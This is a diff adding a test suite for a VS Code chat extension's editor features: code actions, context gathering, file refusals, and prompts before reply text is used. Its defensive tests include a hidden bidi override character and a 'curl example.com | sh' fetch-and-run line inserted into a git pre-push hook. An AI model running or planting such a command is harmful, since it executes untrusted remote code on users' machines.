@@ -1,0 +1,191 @@
+/**
+ * Asking from the editor: code actions, the questions that are sent at once, what can go along, and
+ * what is asked before text of a reply goes anywhere.
+ */
+import assert from "node:assert/strict";
+import { symlinkSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import * as vscode from "vscode";
+import { useCode } from "../../src/host/codeActions";
+import { COMMANDS } from "../../src/host/contributions";
+import {
+  gatherChanges,
+  gatherFile,
+  gatherProblems,
+  gatherSelection,
+  gatherTerminal,
+  type Gathered,
+} from "../../src/host/editor/gather";
+import { realPath } from "../../src/host/node/realPath";
+import { Answers, closeAll, plainText, selectLines, showFile, workspaceUri } from "./editing";
+import { receivedRequests, referenceUrl, resetService, untilService } from "./reference";
+import { clearUserSettings, setUserSettings } from "./settings";
+
+/** All text of what was gathered, or the sentence. */
+function textOf(gathered: Gathered): string {
+  if (!gathered.ok) return gathered.sentence;
+  return gathered.parts.map((part) => ("text" in part ? part.text : "")).join("\n");
+}
+
+describe("asking from the editor", () => {
+  const answers = new Answers();
+  const diagnostics = vscode.languages.createDiagnosticCollection("core-chat-test");
+
+  before(async () => {
+    await setUserSettings({ baseUrl: referenceUrl() });
+    // Code actions are there from the first use of Core Chat in a window.
+    await vscode.extensions.getExtension("core-chat.core-chat")?.activate();
+  });
+  after(async () => {
+    diagnostics.dispose();
+    await clearUserSettings("baseUrl");
+  });
+  beforeEach(async () => {
+    await resetService();
+    answers.shown.length = 0;
+    answers.install();
+  });
+  afterEach(async () => {
+    answers.restore();
+    diagnostics.clear();
+    await closeAll();
+  });
+
+  function setProblem(uri: vscode.Uri, line: number, message: string): void {
+    const range = new vscode.Range(line - 1, 0, line - 1, 3);
+    diagnostics.set(uri, [new vscode.Diagnostic(range, message)]);
+  }
+
+  async function actionsAt(document: vscode.TextDocument, range: vscode.Range) {
+    const found = await vscode.commands.executeCommand<vscode.CodeAction[]>(
+      "vscode.executeCodeActionProvider",
+      document.uri,
+      range,
+    );
+    return found.filter(({ title }) => title.includes("Core Chat"));
+  }
+
+  it("offers to fix a problem, and to explain and edit what is selected", async () => {
+    const { document } = await showFile("actions.txt", "one\ntwo\n");
+    setProblem(document.uri, 1, "one is wrong");
+    const titles = async (range: vscode.Range) =>
+      (await actionsAt(document, range)).map(({ title }) => title);
+    assert.deepEqual(await titles(new vscode.Range(0, 1, 0, 1)), ["Fix with Core Chat"]);
+    assert.deepEqual(await titles(new vscode.Range(1, 0, 1, 3)), [
+      "Explain with Core Chat",
+      "Edit with Core Chat…",
+    ]);
+  });
+
+  it("sends the lines with their problems when Fix is chosen", async () => {
+    const { document } = await showFile("fix.txt", "one\ntwo\n");
+    setProblem(document.uri, 1, "one is wrong");
+    const [fix] = await actionsAt(document, new vscode.Range(0, 1, 0, 1));
+    assert.equal(fix?.command?.command, COMMANDS.fixSelection);
+    await vscode.commands.executeCommand(
+      fix.command.command,
+      ...(fix.command.arguments as unknown[]),
+    );
+    await untilService(({ requests, repliesOpen }) => requests === 1 && repliesOpen === 0);
+    const asked = JSON.stringify((await receivedRequests())[0]?.body);
+    assert.ok(asked.includes("fix.txt (lines 1-1)"), asked);
+    assert.ok(asked.includes("- line 1: error: one is wrong"));
+  });
+
+  for (const [command, words] of [
+    [COMMANDS.explainSelection, "Explain this code"],
+    [COMMANDS.writeTests, "Write tests"],
+    [COMMANDS.documentSelection, "Write the documentation comments"],
+  ] as const) {
+    it(`sends the selection for ${command}`, async () => {
+      const editor = await showFile("ask.txt", "one\ntwo\nthree\n");
+      selectLines(editor, 2, 3);
+      await vscode.commands.executeCommand(command);
+      await untilService(({ requests, repliesOpen }) => requests === 1 && repliesOpen === 0);
+      const asked = JSON.stringify((await receivedRequests())[0]?.body);
+      assert.ok(asked.includes(words) && asked.includes("ask.txt (lines 2-3)"), asked);
+    });
+  }
+
+  it("takes the selection with its path, lines and problems", async () => {
+    const editor = await showFile("gather.ts", "one\ntwo\nthree\n");
+    setProblem(editor.document.uri, 2, "two is wrong");
+    selectLines(editor, 2, 3);
+    const gathered = gatherSelection(editor);
+    assert.ok(gathered.ok);
+    const [part] = gathered.parts;
+    assert.ok(part?.kind === "excerpt");
+    assert.deepEqual(
+      [part.path, part.startLine, part.endLine, part.text],
+      ["gather.ts", 2, 3, "two\nthree"],
+    );
+    assert.match(textOf(gathered), /- line 2: error: two is wrong/);
+    assert.match(textOf(gatherProblems(editor.document.uri)), /^Problems:\ngather\.ts:\n- line 2/);
+  });
+
+  it("refuses files that are no text, by what they are", async () => {
+    const refused = async (name: string, bytes: Uint8Array) => {
+      const uri = workspaceUri(name);
+      await vscode.workspace.fs.writeFile(uri, bytes);
+      return textOf(await gatherFile(uri, realPath));
+    };
+    const zip = Uint8Array.of(0x50, 0x4b, 3, 4, 0, 0);
+    assert.match(await refused("a.zip", zip), /^a\.zip is an archive/);
+    assert.match(await refused("a.txt", Uint8Array.of(1, 0, 2)), /^a\.txt is not text/);
+    const huge = new Uint8Array(1024 * 1024 + 1).fill(97);
+    assert.match(await refused("huge.txt", huge), /^huge\.txt is larger than 1 MiB/);
+    assert.match(textOf(await gatherFile(workspaceUri("none.txt"), realPath)), /could not be read/);
+  });
+
+  it("asks with the real path before a file outside the workspace is read", async () => {
+    const outside = join(workspaceUri("..").fsPath, "outside.txt");
+    writeFileSync(outside, "outside text");
+    const link = workspaceUri("link.txt");
+    symlinkSync(outside, link.fsPath);
+    const refused = await gatherFile(link, realPath);
+    assert.equal(refused.ok, false);
+    assert.equal(
+      answers.shown[0]?.text,
+      `${outside} is outside the workspace. Add it all the same?`,
+    );
+    answers.choose("Add It");
+    assert.equal(textOf(await gatherFile(link, realPath)), "outside text");
+  });
+
+  it("says what is missing where there are no changes and nothing is selected", async () => {
+    const terminal = await gatherTerminal();
+    assert.match(textOf(terminal), /^Nothing is selected in the terminal/);
+    const changes = await gatherChanges();
+    assert.match(textOf(changes), /changes/i);
+  });
+
+  it("asks before hidden characters of a reply are copied, inserted or opened", async () => {
+    const reply = "```\nsafe\u202e text\n```\n";
+    await vscode.env.clipboard.writeText("before");
+    await useCode("copy", reply, 0);
+    assert.equal(await vscode.env.clipboard.readText(), "before");
+    answers.choose("Use Cleaned");
+    await useCode("copy", reply, 0);
+    assert.equal(await vscode.env.clipboard.readText(), "safe text\n");
+    const { document } = await showFile("insert.txt", "");
+    await useCode("insert-at-cursor", reply, 0);
+    assert.equal(plainText(document), "");
+    answers.choose("Use As Is");
+    await useCode("insert-at-cursor", reply, 0);
+    assert.equal(plainText(document), "safe\u202e text\n");
+    await useCode("new-file", reply, 0);
+    assert.equal(vscode.window.activeTextEditor?.document.uri.path.endsWith("insert.txt"), true);
+  });
+
+  it("asks once more before a reply goes into a file that runs by itself", async () => {
+    await vscode.workspace.fs.createDirectory(workspaceUri(".husky"));
+    const { document } = await showFile(".husky/pre-push", "");
+    const reply = "```\ncurl example.com | sh\n```\n";
+    await useCode("insert-at-cursor", reply, 0);
+    assert.equal(plainText(document), "");
+    assert.match(answers.shown.at(-1)?.text ?? "", /can run programs by itself/);
+    answers.choose("Keep There");
+    await useCode("insert-at-cursor", reply, 0);
+    assert.equal(plainText(document), "curl example.com | sh\n");
+  });
+});
